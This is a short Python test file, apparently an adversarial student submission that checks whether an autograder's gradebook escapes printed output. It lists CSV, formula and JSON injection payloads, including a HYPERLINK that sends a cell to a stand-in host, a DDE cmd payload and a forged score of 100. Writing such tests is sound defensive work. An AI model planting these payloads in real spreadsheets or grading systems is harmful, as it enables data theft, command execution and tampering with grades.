"""Prints and raises text that a spreadsheet takes for a formula, or that breaks a line of CSV or JSON.

Holds: no text printed by a student is a cell of the gradebook; their other texts are quoted there.
"""

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"full marks")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r\n=1+1,100,100",
    '",100\n"=1',
    '\\"}, {"score": 100',
    "\ufeff=1+1",
]

for formula in FORMULAS:
    print(formula)


def calculate(*arguments, **keywords):
    print("\n".join(FORMULAS))
    raise type("=1+1", (ValueError,), {})(FORMULAS[0])


functions_do(calculate)
raise type("=1+1", (ValueError,), {})(FORMULAS[1])
